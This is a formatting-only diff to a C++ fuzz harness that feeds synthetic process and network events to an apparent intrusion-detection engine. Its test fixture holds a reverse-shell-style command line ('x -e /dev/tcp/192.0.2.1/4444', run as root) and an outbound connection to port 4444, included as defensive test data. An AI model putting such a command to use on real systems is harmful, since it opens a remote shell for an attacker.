@@ -33,7 +33,10 @@ extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
   e.device = "d";
   e.type = "process";
   e.action = "exec";
-  e.data = {{"pid", 1}, {"exe", "/tmp/x"}, {"cmdline", "x -e /dev/tcp/192.0.2.1/4444"}, {"user", "root"},
+  e.data = {{"pid", 1},
+            {"exe", "/tmp/x"},
+            {"cmdline", "x -e /dev/tcp/192.0.2.1/4444"},
+            {"user", "root"},
             {"argv", {"x", "-e"}}};
   for (int i = 0; i < 3; ++i) {
     e.ts_ms = i * 1000;
@@ -43,7 +46,7 @@ extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
   n.type = "network";
   n.action = "connect";
   n.data = {{"remote_ip", "192.0.2.9"}, {"remote_port", 4444}, {"local_ip", "::1"}, {"local_port", 1},
-            {"protocol", "tcp"}, {"family", "ipv4"}, {"initiated", true}};
+            {"protocol", "tcp"},        {"family", "ipv4"},    {"initiated", true}};
   engine.Process(n, &alerts);
   return 0;
 }
